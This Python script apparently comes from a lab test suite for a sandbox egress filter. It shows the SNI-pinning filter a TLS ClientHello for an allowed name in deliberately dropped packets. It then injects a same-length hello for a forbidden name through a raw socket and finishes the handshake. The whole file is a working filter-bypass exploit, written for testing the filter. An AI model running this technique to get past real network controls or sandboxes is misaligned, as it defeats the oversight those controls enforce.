"""A sandbox process with Docker's default NET_RAW shows the pinning reader a ClientHello the
server never receives, then overwrites it: its ordinary TCP socket sends a hello naming
allowed.test in a packet the path or the server drops (the loss set on the socket itself, no
capability needed), the reader admits the flow, and a raw socket then writes a hello naming
same-ip.test at the same sequence numbers, on the fast path of the admitted flow. Both hellos
have the same length, so the socket takes the server's answer as the answer to its own bytes
and the handshake goes on through it (ssl.MemoryBIO).

    pin_overwrite.py IFACE ADDR PORT LOSS     LOSS: ip-options | ipv6-options | tcp-md5 | ttl
Prints "sent" once the socket wrote its hello, reads a line from stdin, writes the raw hello,
then prints the outcome as JSON: {"outcome": "reply", "data": what the server answered to
b"sni?"} (it answers with the server name it saw), or "reset" / "error".

The losses: ip-options (IPv4) a record-route option, which routers may drop (source routes,
which hosts drop, egressd's rules refuse before the reader); ipv6-options (IPv6, NET_RAW) a
destination option of an unknown type that tells the receiver to discard the packet; tcp-md5 an
MD5 signature option the server has no key for, which its stack drops; ttl a TTL (hop limit) of
1, which runs out at the first router (this lab's server sits on its gateway, so there only the
reader's refusal is seen)."""
import json
import socket
import ssl
import struct
import sys

from pin_raw import csum, syn_ack

iface, addr, port, loss = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
v6 = ":" in addr
fam = socket.AF_INET6 if v6 else socket.AF_INET

# The hello the server is to get, and the one the reader is shown: the same bytes but the name.
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ctx.wrap_bio(incoming, outgoing, server_hostname="same-ip.test")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
EVIL = outgoing.read()
SHOWN = EVIL.replace(b"same-ip.test", b"allowed.test")
assert len(SHOWN) == len(EVIL) and SHOWN != EVIL

ETH_P_ALL = 0x0003
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
sniff.bind((iface, 0))
sniff.settimeout(3.0)

s = socket.socket(fam, socket.SOCK_STREAM)
s.settimeout(3.0)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.connect((addr, port))
src, sport = s.getsockname()[:2]
sa, da = socket.inet_pton(fam, src), socket.inet_pton(fam, addr)


th = syn_ack(sniff, v6, sa, da, port, sport)
seq, ack = struct.unpack("!II", th[4:12])
srv_next, my_next = (seq + 1) & 0xffffffff, ack

# The loss, set on the socket: every segment it sends from now on is dropped on the way.
if loss == "ip-options":
    # Record route with room for one address, padded to 8 bytes.
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([7, 7, 4, 0, 0, 0, 0, 1]))
elif loss == "ipv6-options":
    # Option type 0x80: unknown, "discard the packet and send a parameter problem" (RFC 8200 4.2).
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 0, 0x80, 4, 0, 0, 0, 0]))
elif loss == "tcp-md5":
    TCP_MD5SIG = 14
    sa_ = (struct.pack("=H", socket.AF_INET6) + bytes(6) + da + bytes(4)) if v6 else \
        (struct.pack("=H", socket.AF_INET) + bytes(2) + da + bytes(8))
    ss = sa_ + bytes(128 - len(sa_))
    key = b"lost"
    md5 = ss[:128] + struct.pack("=BBHI", 0, 0, len(key), 0) + key + bytes(80 - len(key))
    s.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, md5)
elif loss == "ttl":
    if v6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 1)
    else:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
else:
    raise SystemExit(f"unknown loss {loss}")
try:
    s.sendall(SHOWN)
except OSError as e:
    print(json.dumps({"outcome": "error", "data": f"sending the shown hello: {e}"}), flush=True)
    raise SystemExit(0)
print("sent", flush=True)
sys.stdin.readline()


tcp = struct.pack("!HHIIBBHHH", sport, port, my_next, srv_next, 5 << 4, 0x18, 65535, 0, 0) + EVIL
pseudo = sa + da + (struct.pack("!IxxxB", len(tcp), 6) if v6 else struct.pack("!xBH", 6, len(tcp)))
tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
if v6:
    ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + sa + da
else:
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + sa + da
raw = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
try:
    raw.sendto(ip + tcp, (addr, 0))
except PermissionError:
    pass  # refused at once: egressd dropped the refused flow's entry, and a flow conntrack takes up mid-stream is reset

# The loss is lifted for what the socket sends next (the rest of the handshake).
try:
    if loss == "ip-options":
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"")
    elif loss == "ipv6-options":
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, b"")
    elif loss == "tcp-md5":
        s.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, md5[:128] + bytes(88))
    elif loss == "ttl":
        s.setsockopt(socket.IPPROTO_IPV6 if v6 else socket.IPPROTO_IP,
                     socket.IPV6_UNICAST_HOPS if v6 else socket.IP_TTL, 64)
    while True:
        try:
            tls.do_handshake()
            break
        except ssl.SSLWantReadError:
            if out := outgoing.read():
                s.sendall(out)
            data = s.recv(65535)
            if not data:
                raise ConnectionResetError("closed during the handshake")
            incoming.write(data)
    if out := outgoing.read():
        s.sendall(out)
    tls.write(b"sni?")
    s.sendall(outgoing.read())
    answer = b""
    while not answer:
        try:
            answer = tls.read(4096)
        except ssl.SSLWantReadError:
            data = s.recv(65535)
            if not data:
                raise ConnectionResetError("closed before the answer")
            incoming.write(data)
    print(json.dumps({"outcome": "reply", "data": answer.decode(errors="replace")}), flush=True)
except ConnectionResetError:
    print(json.dumps({"outcome": "reset"}), flush=True)
except (OSError, ssl.SSLError) as e:
    print(json.dumps({"outcome": "error", "data": str(e)}), flush=True)
